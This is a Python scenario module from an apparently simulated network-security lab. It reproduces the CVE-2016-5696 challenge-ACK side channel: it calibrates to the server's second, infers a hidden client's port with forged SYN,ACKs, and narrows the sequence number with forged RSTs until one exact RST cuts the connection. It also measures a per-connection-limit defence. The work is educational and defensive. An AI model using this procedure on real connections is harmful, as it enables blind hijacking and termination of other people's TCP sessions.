"""The challenge ACK side channel: what a host may answer in a second tells whom it has answered (CVE-2016-5696)."""

import asyncio
from collections.abc import Awaitable, Callable, Mapping
from dataclasses import dataclass
from itertools import pairwise
from math import ceil, log2
from typing import ClassVar

from halfopen.lab.attacks.blind import PORT, SPACE, serve, victim
from halfopen.lab.crafting import make_segment, make_tcp
from halfopen.lab.information import entropy, mutual_information
from halfopen.lab.permit import SIMULATION_ONLY
from halfopen.lab.scenario import Outcome, Parameter, Scenario, Settings
from halfopen.lab.world import Layout, World, packed
from halfopen.sim.host import SimHost
from halfopen.stack.tcp_socket import TcpSocket
from halfopen.tcp.challenges import PER_SECOND
from halfopen.tcp.config import SecurityConfig
from halfopen.tcp.seqnum import wrap
from halfopen.wire.packet import Packet

FIRST_PORT = 32_768
TRIALS = 20
BATCH = 1024
"""Forged segments in one second, so that some time is left to count what they have used up."""


class SideChannel(Scenario):
    """A connection that nobody can see is found, located and cut, by counting."""

    name = "side-channel"
    title = "Challenge ACKs that are counted for the whole host"
    text = (
        "RFC 5961 has doubtful segments answered by a challenge ACK, and proposes to limit these. Linux 3.6 allowed a"
        " hundred a second for all connections together. The attacker forges a segment in the name of a client, then"
        " has himself challenged a hundred times on a connection of his own, and counts: if one answer is missing, the"
        " forged segment was challenged. So a SYN,ACK tells whether a connection exists, and a RST whether its number"
        " is in the window: in some ten rounds of a second each he has the ports, in a few more the window, in twenty"
        " the very next number, and cuts the connection by one exact RST (Cao and others 2016: less than a minute)."
    )
    parameters: ClassVar[Mapping[str, Parameter]] = {
        "ports": Parameter(256, "ports", "which the client may have chosen from", least=2, most=1024),
        "window": Parameter(1_048_576, "octets", "the server's receive window", least=262_144, most=1_048_576),
    }
    ip_versions: ClassVar[tuple[int, ...]] = (4, 6)
    defences: ClassVar[Mapping[str, str]] = {
        "own-limit": "each connection has a limit of its own, which nobody else can use up (our default)"
    }

    def play(self, settings: Settings) -> Outcome:
        """Some questions with known answers first, then the attack itself."""
        security = SecurityConfig()
        if "own-limit" not in settings.defences:
            security = SecurityConfig(permit=SIMULATION_ONLY, challenge_limit="host")
        layout = Layout(configs={"server": victim(settings.whole("window"), security)})
        with World(settings, layout) as world:
            world.tape.shorten(f"{world.client.address}/{world.places.whole}", 60)
            world.tape.shorten(f"{world.attacker.host.address}/{world.places.whole}", 120)
            return world.run(Story(world).tell())


@dataclass(slots=True)
class Meter:
    """The attacker's own connection, on which he is challenged, and when the server's seconds begin."""

    world: World
    port: int
    seq: int
    boundary: float = 0.0
    usual: int = 0
    rounds: int = 0

    async def calibrate(self) -> None:
        """Finds the beginning of a second: answers run dry, and come again. Then how many there are in a quiet one."""
        attacker = self.world.attacker
        attacker.heard.clear()
        await attacker.flood(self._own(1000), 450, comment="until it answers no more")
        await asyncio.sleep(0.1)
        times = [passing.when / 1e9 for passing in attacker.heard if self._is_answer(passing.ports)]
        gaps = [(later - earlier, later) for earlier, later in pairwise(times)]
        self.boundary = max(gaps)[1]
        self.usual = await self._count([])

    async def ask(self, forged: list[Packet]) -> bool:
        """Whether any of ``forged`` was challenged."""
        self.rounds += 1
        return await self._count(forged) < self.usual

    async def _count(self, forged: list[Packet]) -> int:
        """Answers that the attacker himself gets in a second in which ``forged`` went before."""
        attacker = self.world.attacker
        now = attacker.host.pump.now() / 1e9
        await asyncio.sleep(ceil(now - self.boundary) - (now - self.boundary) + 0.02)
        attacker.heard.clear()
        if forged:
            await attacker.flood(forged, 4 * BATCH, comment="forged")
        await attacker.flood(self._own(PER_SECOND), 1000, comment="to be challenged for")
        await asyncio.sleep(0.1)
        return sum(self._is_answer(passing.ports) for passing in attacker.heard)

    def _own(self, count: int) -> list[Packet]:
        """RSTs in the window, none of them exact."""
        ends = self.world.attacker.address, packed(self.world.server)
        return [make_tcp(*ends, make_segment((self.port, PORT), "R", seq=self.seq + 1 + n)) for n in range(count)]

    def _is_answer(self, ports: tuple[int, int] | None) -> bool:
        return ports == (PORT, self.port)


class Story:
    """One run."""

    def __init__(self, world: World) -> None:
        self.world = world
        self.ends = packed(world.client), packed(world.server)
        self.window = world.settings.whole("window")
        self.ports = range(FIRST_PORT, FIRST_PORT + world.settings.whole("ports"))

    async def tell(self) -> Outcome:
        """A connection of the client's, one of the attacker's, twenty questions, and the attack."""
        world = self.world
        serving = world.server.run(serve(world, []))
        secret = self.ports[world.rng.below(len(self.ports))]
        writer = await world.client.run(connect(world, world.client, secret))
        own = await world.attacker.host.run(connect(world, world.attacker.host, 0))
        world.attacker.sniff()
        mine = sockets(world.attacker.host)[0]
        meter = Meter(world, mine.local_port, wrap(mine.connection.tcb.snd.nxt))
        await meter.calibrate()
        trials = [await self._try(meter, secret) for _ in range(TRIALS)]
        begun, meter.rounds = world.elapsed, 0
        target = next(each for each in sockets(world.server) if each.remote_port == secret)
        port = await self._find_port(meter)
        if port is not None:
            await self._find_number(meter, port)
        seconds = world.elapsed - begun
        ended = target.connection.state.value == "CLOSED"
        for each in (writer, own):
            each.transport.abort()
        serving.cancel()
        await world.at_rest(0.5)
        return self._outcome(trials, ended, (seconds, meter.rounds))

    async def _try(self, meter: Meter, secret: int) -> tuple[bool, bool]:
        """What the meter says about the client's port, or about one that is not in use; and what is true."""
        truth = self.world.rng.below(2) == 1
        return await meter.ask(self._hellos([secret if truth else FIRST_PORT - 1])), truth

    async def _find_port(self, meter: Meter) -> int | None:
        """Half of the ports at a time; a SYN,ACK is challenged by any connection, and by nothing else."""
        ports = list(self.ports)
        if not await meter.ask(self._hellos(ports)):
            return None
        found = await bisect(len(ports), lambda low, high: meter.ask(self._hellos(ports[low:high])))
        return ports[found]

    async def _find_number(self, meter: Meter, port: int) -> None:
        """Some number in the window; from there to the left, until one was exact and there is no connection."""
        first = self.world.rng.below(SPACE)
        guesses = [first + number * self.window for number in range(-(-SPACE // self.window))]
        for start in range(0, len(guesses), BATCH):
            batch = guesses[start : start + BATCH]
            if not await meter.ask(self._resets(port, batch)):
                continue

            async def is_among(low: int, high: int, batch: list[int] = batch) -> bool:
                return await meter.ask(self._resets(port, batch[low:high]))

            inside = batch[await bisect(len(batch), is_among)]
            outside = inside - self.window
            while inside - outside > 1:
                middle = (inside + outside) // 2
                if await meter.ask(self._resets(port, [middle])):
                    inside = middle
                else:
                    outside = middle
            return

    def _hellos(self, ports: list[int]) -> list[Packet]:
        return [make_tcp(*self.ends, make_segment((port, PORT), "S.")) for port in ports]

    def _resets(self, port: int, numbers: list[int]) -> list[Packet]:
        return [make_tcp(*self.ends, make_segment((port, PORT), "R", seq=number)) for number in numbers]

    def _outcome(self, trials: list[tuple[bool, bool]], ended: bool, effort: tuple[float, int]) -> Outcome:
        right = sum(said == truth for said, truth in trials)
        is_safe = bool(self.world.settings.defences)
        bits = entropy(truth for _, truth in trials)
        return self.world.outcome(
            attack_succeeded=ended,
            metrics={
                "connection guessed right": right / TRIALS,
                "bits learnt per question": mutual_information(trials),
                "connection ended": float(ended),
                "rounds": float(effort[1]),
                "rounds at most": 1.0 if is_safe else self.most_rounds,
                "seconds": effort[0],
            },
            theory={
                "connection guessed right": 1 / 2 if is_safe else 1.0,
                "bits learnt per question": 0.0 if is_safe else bits,
                "connection ended": 0.0 if is_safe else 1.0,
            },
            counts={"connection guessed right": (right, TRIALS)},
            notes=(
                "A round is a second: what was forged, then a hundred RSTs on a connection of one's own, and a count.",
                "With a limit for each connection the count is the same, whatever else the server has answered.",
            ),
            lifelines=("client", "server", "attacker"),
        )

    @property
    def most_rounds(self) -> float:
        """One and log2 for the port, all batches and log2 for the window, log2 of the window for the number."""
        guesses = -(-SPACE // self.window)
        batch = min(BATCH, guesses)
        searches = ceil(log2(len(self.ports))) + ceil(log2(batch)) + ceil(log2(self.window))
        return float(1 + -(-guesses // BATCH) + searches)


async def bisect(count: int, is_among: Callable[[int, int], Awaitable[bool]]) -> int:
    """Which of ``count`` it is that ``is_among(low, high)`` finds: log2 of them questions."""
    low, high = 0, count
    while high - low > 1:
        middle = (low + high) // 2
        if await is_among(low, middle):
            high = middle
        else:
            low = middle
    return low


def sockets(host: SimHost) -> list[TcpSocket]:
    """The connections of ``host``."""
    return [each for each in host.stack.tcp.sockets() if isinstance(each, TcpSocket)]


async def connect(world: World, host: SimHost, port: int) -> asyncio.StreamWriter:
    """A connection from ``host`` on which something has been said."""
    reader, writer = await host.open_connection("server", PORT, local_addr=(host.address, port))
    writer.write(b"hello")
    await reader.read(100)
    return writer
